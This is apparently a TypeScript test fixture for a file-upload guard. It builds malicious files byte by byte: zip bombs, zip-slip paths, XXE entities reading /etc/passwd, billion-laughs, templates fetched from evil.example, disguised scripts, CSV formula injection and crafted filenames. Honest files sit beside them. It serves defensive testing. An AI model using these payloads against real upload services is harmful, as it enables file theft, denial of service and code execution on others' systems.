// Files made to harm whoever opens them or whoever keeps them, built byte by byte; and honest ones beside them.
import { deflateSync, crc32 } from 'node:zlib';
import { archive, docx, xlsx } from '@ky-cuong/api/testing/archive.js';

export interface Sent {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
  /** Kept, but so that it can do nothing: what must not stand in it any more. */
  readonly without?: string;
}

export const PDF = Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');

function chunk(kind: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(kind, 'latin1'), content]);
  const frame = Buffer.alloc(4);
  frame.writeUInt32BE(content.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([frame, body, sum]);
}

export function png(width: number, height: number, more: readonly Buffer[] = []): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const magic = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const data = chunk('IDAT', deflateSync(Buffer.alloc(4)));
  return Buffer.concat([magic, chunk('IHDR', head), ...more, data, chunk('IEND', Buffer.alloc(0))]);
}

function segment(marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([head, content]);
}

/** A photograph's shell: a frame of that size, and what its camera tells. */
export function jpeg(width: number, height: number, told: readonly Buffer[] = []): Buffer {
  const frame = Buffer.from([8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
  frame.writeUInt16BE(height, 1);
  frame.writeUInt16BE(width, 3);
  const jfif = segment(0xe0, Buffer.from('JFIF\u0000\u0001\u0001\u0000\u0000\u0001\u0000\u0001\u0000\u0000', 'latin1'));
  const scan = segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0]));
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    jfif,
    ...told.map((one) => segment(0xe1, one)),
    segment(0xc0, frame),
    scan,
    Buffer.from([0, 0xff, 0xd9]),
  ]);
}

export const exif = (orientation: number, rest = ''): Buffer =>
  Buffer.concat([
    Buffer.from('Exif\u0000\u0000MM\u0000*\u0000\u0000\u0000\u0008', 'latin1'),
    Buffer.from([0, 1, 0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, orientation, 0, 0, 0, 0, 0, 0]),
    Buffer.from(rest, 'latin1'),
  ]);

const GPS = 'GPSLatitude 10.4602 GPSLongitude 105.6329';
const SCRIPT = '<script>alert(1)</script>';
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE', '!$H+H*'].join('');
const DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document>&e;</w:document>';
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY b${n} "${`&a;`.repeat(10)}">`).join('')}]><w:document/>`;
const relation = (kind: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 2 ** 20);
const inDocx = (name: string, content: string | Buffer, more: object = {}) => docx([{ name, content, ...more }]);

const archives: readonly Sent[] = [
  { what: 'a bomb of 90 MB in 90 kB', name: 'a.docx', bytes: inDocx('word/media/a.bin', zeros(90)) },
  {
    what: 'a bomb that says it is small',
    name: 'a.docx',
    bytes: inDocx('word/media/a.bin', zeros(200), { claims: 1_000 }),
  },
  {
    what: 'a bomb that says 2 GB',
    name: 'a.xlsx',
    bytes: xlsx([{ name: 'xl/a.bin', content: 'x', claims: 0x7fffffff }]),
  },
  {
    what: 'a bomb of many parts',
    name: 'a.docx',
    bytes: docx(Array.from({ length: 300 }, (_, n) => ({ name: `word/media/${n}.bin`, content: zeros(1) }))),
  },
  {
    what: '10,000 parts',
    name: 'a.docx',
    bytes: docx(Array.from({ length: 10_000 }, (_, n) => ({ name: `p${n}`, content: '' }))),
  },
  {
    what: 'an archive in a document',
    name: 'a.docx',
    bytes: inDocx('word/a.zip', archive([{ name: 'b', content: zeros(1) }])),
  },
  {
    what: 'archives three deep',
    name: 'a.docx',
    bytes: inDocx('word/a.ZIP', archive([{ name: 'b.zip', content: archive([{ name: 'c.zip', content: 'x' }]) }])),
  },
  { what: 'a way out by dots', name: 'a.docx', bytes: inDocx('../../etc/cron.d/x', 'x') },
  { what: 'a way out by backslashes', name: 'a.docx', bytes: inDocx('word\\..\\..\\x', 'x') },
  { what: 'a way out from the root', name: 'a.xlsx', bytes: xlsx([{ name: '/etc/passwd', content: 'x' }]) },
  { what: 'a way out by a drive', name: 'a.xlsx', bytes: xlsx([{ name: 'C:\\x', content: 'x' }]) },
  { what: 'a link to elsewhere', name: 'a.docx', bytes: inDocx('word/link', '/etc/passwd', { mode: 0o120777 }) },
  { what: 'two parts of one name', name: 'a.docx', bytes: inDocx('word/document.xml', '<other/>') },
  { what: 'a locked part', name: 'a.docx', bytes: inDocx('word/x.bin', 'x', { isEncrypted: true }) },
  { what: 'macros', name: 'a.docx', bytes: inDocx('word/vbaProject.bin', 'x') },
  { what: 'a program in a document', name: 'a.docx', bytes: inDocx('word/embeddings/a.exe', 'MZ') },
  { what: 'an archive', name: 'a.zip', bytes: archive([{ name: 'a.txt', content: 'a' }]) },
  { what: 'an archive called document', name: 'a.docx', bytes: archive([{ name: 'a.txt', content: 'a' }]) },
  { what: 'an archive cut off', name: 'a.docx', bytes: docx().subarray(0, 150) },
];

const entities: readonly Sent[] = [
  { what: 'DOCX with an entity of a file', name: 'a.docx', bytes: docx([], DTD) },
  { what: 'XLSX with an entity of a file', name: 'a.xlsx', bytes: xlsx([], DTD.replaceAll('w:document', 'workbook')) },
  { what: 'DOCX with entities of entities', name: 'a.docx', bytes: docx([], LAUGHS) },
  {
    what: 'XLSX with an entity in UTF-16',
    name: 'a.xlsx',
    bytes: xlsx([{ name: 'xl/sheet1.xml', content: Buffer.from(`\ufeff${DTD}`, 'utf16le') }]),
  },
  {
    what: 'DOCX with a template from elsewhere',
    name: 'a.docx',
    bytes: inDocx('word/_rels/settings.xml.rels', relation('attachedTemplate', 'https://evil.example/t.dotm')),
  },
  {
    what: 'XLSX with an object from elsewhere',
    name: 'a.xlsx',
    bytes: xlsx([{ name: 'xl/_rels/workbook.xml.rels', content: relation('oleObject', '\\\\evil.example\\x') }]),
  },
];

const disguised: readonly Sent[] = [
  { what: 'a page called PDF', name: 'a.pdf', bytes: Buffer.from(`<html>${SCRIPT}</html>`) },
  { what: 'a page before a PDF', name: 'a.pdf', bytes: Buffer.concat([Buffer.from(`<html>${SCRIPT}`), PDF]) },
  { what: 'a page called picture', name: 'a.png', bytes: Buffer.from(SCRIPT) },
  {
    what: 'an SVG with a script',
    name: 'a.svg',
    bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
  },
  {
    what: 'an SVG called PNG',
    name: 'a.png',
    bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
  },
  { what: 'a page', name: 'a.html', bytes: Buffer.from(SCRIPT) },
  { what: 'a program called PDF', name: 'a.pdf', bytes: Buffer.from('4d5a90000300', 'hex') },
  { what: 'a program called text', name: 'a.txt', bytes: Buffer.from('7f454c4602010100', 'hex') },
  { what: 'a picture called PDF', name: 'a.pdf', bytes: png(1, 1) },
  { what: 'two extensions', name: 'a.pdf.exe', bytes: PDF },
  { what: 'a PDF called page', name: 'a.pdf.html', bytes: PDF },
  { what: 'nothing', name: 'a.pdf', bytes: Buffer.alloc(0) },
  { what: '21 MB', name: 'a.pdf', bytes: Buffer.concat([PDF, Buffer.alloc(21 * 2 ** 20, 32)]) },
  { what: 'a picture of 20,000 × 20,000', name: 'a.png', bytes: png(20_000, 20_000) },
  { what: 'a photograph of 60,000 × 60,000', name: 'a.jpg', bytes: jpeg(60_000, 60_000) },
];

const named: readonly Sent[] = [
  ['../a.pdf', 'a name that leads up'],
  ['..\\a.pdf', 'a name that leads up, by a backslash'],
  ['/etc/passwd.pdf', 'a name from the root'],
  ['a\u0000.exe.pdf', 'a NUL in the name'],
  ['a\u202efdp.exe.pdf', 'a name that reads backwards'],
  ['a\u200bb.pdf', 'a name with nothing in it to see'],
  ['a\r\nset-cookie: x=1.pdf', 'a line end in the name'],
  ['.htaccess.pdf', 'a hidden name'],
  ['con:stream.pdf', 'a stream in the name'],
  [`${'a'.repeat(300)}.pdf`, 'a name too long'],
].map(([name = '', what = '']) => ({ what, name, bytes: PDF }));

/** None of these is taken. */
export const refusedFiles: readonly Sent[] = [...archives, ...entities, ...disguised, ...named];

/** These are taken, and can do nothing where they are kept and how they are handed out. */
export const tamedFiles: readonly Sent[] = [
  {
    what: 'a photograph that tells where it was taken',
    name: 'ảnh.jpg',
    bytes: jpeg(10, 10, [exif(6, GPS)]),
    without: 'GPSLatitude',
  },
  {
    what: 'a photograph with notes of its program',
    name: 'ảnh.jpg',
    bytes: jpeg(10, 10, [Buffer.from(`http://ns.adobe.com/xap/1.0/\u0000<x:xmpmeta exif:${GPS}/>`, 'latin1')]),
    without: 'GPSLatitude',
  },
  {
    what: 'a picture with text of its own',
    name: 'a.png',
    bytes: png(1, 1, [chunk('tEXt', Buffer.from(`Comment\u0000${SCRIPT}`))]),
    without: SCRIPT,
  },
  {
    what: 'a picture that tells where it was taken',
    name: 'a.png',
    bytes: png(1, 1, [chunk('eXIf', exif(1, GPS))]),
    without: 'GPSLatitude',
  },
  {
    what: 'an archive behind a picture',
    name: 'a.png',
    bytes: Buffer.concat([png(1, 1), archive([{ name: 'a.js', content: 'x' }])]),
    without: 'PK',
  },
  { what: 'a page behind a PDF', name: 'a.pdf', bytes: Buffer.concat([PDF, Buffer.from(SCRIPT)]) },
  { what: 'a script in a text', name: 'a.txt', bytes: Buffer.from(SCRIPT) },
  { what: 'a formula in a list', name: 'a.csv', bytes: Buffer.from('=cmd|calc,1\n') },
  { what: 'the test string of virus scanners', name: 'a.txt', bytes: Buffer.from(EICAR) },
];

/** Honest files, that a guard too eager would refuse. */
export const honestFiles: readonly Sent[] = [
  { what: 'a PDF', name: 'Báo cáo quý I.pdf', bytes: PDF },
  { what: 'a document', name: 'văn bản.docx', bytes: docx() },
  { what: 'a workbook', name: 'biểu mẫu.xlsx', bytes: xlsx() },
  {
    what: 'a document with a link',
    name: 'a.docx',
    bytes: inDocx('word/_rels/document.xml.rels', relation('hyperlink', 'https://dongthap.gov.vn')),
  },
  {
    what: "a chart's workbook in a document",
    name: 'a.docx',
    bytes: inDocx('word/embeddings/Microsoft_Excel_Sheet.xlsx', xlsx()),
  },
  { what: 'a picture', name: 'ảnh.png', bytes: png(4_000, 3_000) },
  { what: 'a photograph', name: 'ảnh.jpg', bytes: jpeg(4_000, 3_000, [exif(6)]) },
  { what: 'a list', name: 'danh sách.csv', bytes: Buffer.from('Họ tên,Đơn vị\nLê Văn A,Sở Y tế\n') },
];
